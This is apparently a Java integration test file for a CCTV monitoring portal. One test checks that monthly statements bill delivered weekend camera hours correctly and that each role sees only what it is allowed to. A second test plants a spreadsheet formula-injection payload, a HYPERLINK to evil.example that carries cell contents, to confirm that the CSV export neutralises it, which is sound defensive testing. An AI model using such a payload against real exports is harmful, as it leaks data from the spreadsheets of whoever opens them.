package org.cctvportal.monitoring;

import static io.restassured.RestAssured.given;
import static org.cctvportal.monitoring.MonitoringFixture.hub;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.math.BigDecimal;
import java.time.DayOfWeek;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.YearMonth;
import java.time.temporal.TemporalAdjusters;
import java.util.EnumSet;
import java.util.List;
import java.util.function.Supplier;
import org.cctvportal.platform.tenancy.UnattendedWork;
import org.cctvportal.support.DemoUsers;
import org.cctvportal.support.TestClock;
import org.cctvportal.support.ActingPartner;
import org.junit.jupiter.api.Test;

/**
 * Statements add up against bookings this test makes in a past month: delivered weekend hours at the council weekend camera-hour
 * rate, to the penny, the same for the partner, the hub's supervisor, the CSV and the PCC office's totals.
 */
@QuarkusTest
class StatementServiceTest {

    @Inject
    UnattendedWork unattended;

    @Inject
    BookingService bookings;

    @Inject
    HubDecisions decisions;

    private <T> T as(String partner, Supplier<T> work) {
        return ActingPartner.as(unattended, partner, work);
    }

    @Test
    void aMonthsStatementAddsUpTheDeliveredHoursOfTheApprovedBookings() {
        long hub = hub("tv-ods", 4, 5);
        YearMonth month = TestClock.thisMonth().minusMonths(4);
        LocalDate first = month.atDay(1);
        LocalDate last = month.atEndOfMonth();
        long nights = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, "Statement nights", 7,
                Booking.Recurrence.WEEKLY, null, null, EnumSet.of(DayOfWeek.SATURDAY), LocalTime.of(20, 0),
                LocalTime.of(4, 0), first, last, Booking.Priority.ROUTINE, null, MonitoringFixture.tags("tv-milton-keynes", 7))).id);
        long declined = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, "Declined", 3,
                Booking.Recurrence.WEEKLY, null, null, EnumSet.of(DayOfWeek.SATURDAY), LocalTime.of(20, 0),
                LocalTime.of(4, 0), first, last, Booking.Priority.ROUTINE, null, MonitoringFixture.tags("tv-milton-keynes", 3))).id);
        as("tv-ods", () -> {
            decisions.approve(nights);
            decisions.decline(declined, "Not this month");
            return null;
        });
        long saturdays = first.datesUntil(last.plusDays(1)).filter(d -> d.getDayOfWeek() == DayOfWeek.SATURDAY)
                .count();
        // A Saturday night spanning the October clock change is 9 hours; none in other months is shorter than 8.
        LocalDate octoberChange = LocalDate.of(month.getYear(), 10, 31)
                .with(TemporalAdjusters.previousOrSame(DayOfWeek.SUNDAY)).minusDays(1);
        LocalDate marchChange = LocalDate.of(month.getYear(), 3, 31)
                .with(TemporalAdjusters.previousOrSame(DayOfWeek.SUNDAY)).minusDays(1);
        long hours = saturdays * 8 + (YearMonth.from(octoberChange).equals(month) ? 1 : 0)
                - (YearMonth.from(marchChange).equals(month) ? 1 : 0);
        BigDecimal expected = new BigDecimal("2.10").multiply(BigDecimal.valueOf(7 * hours)).setScale(2);

        List<java.util.Map<String, Object>> lines = given().auth().oauth2(DemoUsers.token("mk.manager"))
                .get("/api/v1/statements?month=" + month).then().statusCode(200).extract().jsonPath()
                .getList("[0].lines");
        java.util.Map<String, Object> line = lines.stream()
                .filter(l -> ((Number) l.get("bookingId")).longValue() == nights).findFirst().orElseThrow();
        assertEquals(0, BigDecimal.valueOf(hours).compareTo(new BigDecimal(line.get("deliveredHours").toString())));
        assertEquals(0, expected.compareTo(new BigDecimal(line.get("amount").toString())));
        assertTrue(lines.stream().noneMatch(l -> ((Number) l.get("bookingId")).longValue() == declined));
        BigDecimal total = new BigDecimal(given().auth().oauth2(DemoUsers.token("mk.manager"))
                .get("/api/v1/statements?month=" + month).then().extract().path("[0].total").toString());
        assertEquals(0, lines.stream().map(l -> new BigDecimal(l.get("amount").toString()))
                .reduce(BigDecimal.ZERO, BigDecimal::add).compareTo(total));

        String served = given().auth().oauth2(DemoUsers.token("ods.supervisor"))
                .get("/statements/export?month=" + month).then().statusCode(200).extract().asString();
        assertTrue(served.contains("MB-" + nights + ",") && served.contains("," + expected), served);
        String pcc = given().auth().oauth2(DemoUsers.token("opcc.analyst")).get("/statements/export?month=" + month)
                .then().statusCode(200).extract().asString();
        assertTrue(pcc.contains("Milton Keynes City Council," + month + ","), pcc);
        assertTrue(!pcc.contains("MB-" + nights), "the PCC office sees totals, not lines");
        String other = given().auth().oauth2(DemoUsers.token("oxford.manager"))
                .get("/statements/export?month=" + month).then().statusCode(200).extract().asString();
        assertTrue(!other.contains("MB-" + nights), "another council does not see Milton Keynes' lines");
    }

    /** A camera group typed as a formula reaches the hub supervisor's spreadsheet as text, not as a live link. */
    @Test
    void theStatementsCsvNeutralisesACameraGroupTypedAsAFormula() {
        long hub = hub("tv-ods", 4, 5);
        YearMonth month = TestClock.thisMonth().minusMonths(5);
        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
        long booking = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, formula, 2,
                Booking.Recurrence.WEEKLY, null, null, EnumSet.of(DayOfWeek.SATURDAY), LocalTime.of(20, 0),
                LocalTime.of(22, 0), month.atDay(1), month.atEndOfMonth(), Booking.Priority.ROUTINE, null,
                MonitoringFixture.tags("tv-milton-keynes", 2))).id);
        as("tv-ods", () -> {
            decisions.approve(booking);
            return null;
        });
        String served = given().auth().oauth2(DemoUsers.token("ods.supervisor"))
                .get("/statements/export?month=" + month).then().statusCode(200).extract().asString();
        String line = served.lines().filter(l -> l.contains("MB-" + booking + ",")).findFirst().orElseThrow();
        assertTrue(line.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\","), line);
        assertTrue(!line.contains(",\"=HYPERLINK") && !line.contains(",=HYPERLINK"), line);
    }
}
